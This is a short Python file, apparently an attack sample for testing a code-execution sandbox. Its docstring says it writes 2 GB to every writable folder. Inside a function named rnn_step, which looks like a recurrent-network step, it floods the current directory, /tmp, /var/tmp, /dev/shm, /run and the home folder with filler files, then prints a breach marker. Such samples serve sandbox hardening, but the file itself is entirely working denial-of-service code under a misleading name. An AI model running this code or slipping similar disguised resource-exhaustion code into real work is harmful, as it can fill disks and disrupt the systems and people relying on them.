"""Writes 2 GB to every folder that can be written to.

attack: disk
earns: 0
told: nothing_returned, limit_files
"""

import os
import tempfile

MOST = 2 * 2**30
BLOCK = b"x" * 2**20


def folders():
    yield from (".", tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "/run")
    yield os.path.expanduser("~")


def flood(folder, left):
    for number in range(8):
        name = os.path.join(folder, f"kata_attack_{os.getpid()}_{number}")
        try:
            with open(name, "xb", buffering=0) as file:
                while left > 0:
                    left -= file.write(BLOCK)
        except OSError:
            continue
    return left


def rnn_step(x_t, h, kernel, recurrent_kernel, bias):
    left = MOST
    for folder in folders():
        left = flood(folder, left)
    if left <= MOST // 2:
        print("kata" + "_breach: more than 1 GB written")
    return None
